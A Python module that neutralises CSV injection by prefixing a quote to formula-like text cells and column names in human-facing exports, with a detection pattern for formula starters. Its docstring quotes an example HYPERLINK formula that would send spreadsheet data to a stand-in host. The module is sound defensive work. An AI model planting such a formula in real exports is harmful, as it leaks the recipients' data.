"""CSV files that people open in a spreadsheet are safe to open (OWASP "CSV injection").

A spreadsheet evaluates a cell that starts with `=`, `+`, `-` or `@` (or with a tab or a
carriage return before one) as a formula: a customs post named
`=HYPERLINK("http://x/?"&A1,"post")` would send the sheet's data away when clicked. Every
human-facing CSV (dashboard downloads, the partners' labelled tables) therefore goes through
`neutralise`, which puts a `'` before such a text cell, so the spreadsheet shows the text as
it is. Only text cells change: numbers (negative ones included) stay numbers, written as
numbers. Machine formats (SDMX-CSV, SDMX-ML) are left alone: their values are codes checked
against code lists, and a reader compares them byte for byte.

It lives in sdmx_export, the lowest package both the dashboards and the partner packages
already import, so neither imports the other.
"""

from __future__ import annotations

import polars as pl

# OWASP's list: formula starters, and tab and carriage return, which some spreadsheets skip.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
PREFIX = "'"
_PATTERN = "^[=+\\-@\t\r]"


def neutralise_text(value: str) -> str:
    """`value` with a `'` before it when a spreadsheet would take it for a formula."""
    return PREFIX + value if value.startswith(FORMULA_STARTS) else value


def neutralise(frame: pl.DataFrame) -> pl.DataFrame:
    """`frame` with every text cell (and column name) that starts like a formula
    neutralised; other columns untouched. Categorical and enum columns become text."""
    text = [
        name
        for name, dtype in frame.schema.items()
        if dtype in (pl.String, pl.Categorical) or isinstance(dtype, pl.Enum)
    ]
    safe = frame.with_columns(
        pl.when(pl.col(name).cast(pl.String).str.contains(_PATTERN))
        .then(pl.lit(PREFIX) + pl.col(name).cast(pl.String))
        .otherwise(pl.col(name).cast(pl.String))
        .alias(name)
        for name in text
    )
    renamed = {name: neutralise_text(name) for name in safe.columns}
    return safe.rename(renamed) if any(k != v for k, v in renamed.items()) else safe
